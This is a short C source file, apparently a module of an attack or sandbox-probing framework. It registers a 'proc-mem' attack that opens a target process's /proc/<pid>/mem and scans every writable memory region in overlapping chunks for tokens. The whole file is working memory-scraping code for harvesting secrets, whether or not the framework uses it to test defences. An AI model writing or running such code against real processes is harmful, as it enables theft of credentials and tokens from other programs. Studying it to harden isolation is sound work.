// Opens /proc/<pid>/mem and reads every writable page of it. proc_pid_mem(5)
#include "attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void Read(const struct Region* region, void* context) {
  static char bytes[1 << 20];
  const int memory = *(const int*)context;
  // Chunks overlap, so that a token across their border is seen whole.
  for (uintptr_t at = region->start; at < region->end; at += sizeof bytes - 4096) {
    const size_t left = region->end - at;
    const ssize_t got = pread(memory, bytes, left < sizeof bytes ? left : sizeof bytes, (off_t)at);
    if (got > 0) Hunt(bytes, (size_t)got);
    if (left <= sizeof bytes) break;
  }
}

void HuntMemory(pid_t target) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", (int)target);
  int memory = open(path, O_RDONLY | O_CLOEXEC);
  if (memory < 0) {
    Refused(path);
    return;
  }
  ForEachRegion(target, Read, &memory);
  close(memory);
}

static void ProcMem(pid_t target, char** arguments) {
  (void)arguments;
  HuntMemory(target);
}

ATTACK("proc-mem", ProcMem)
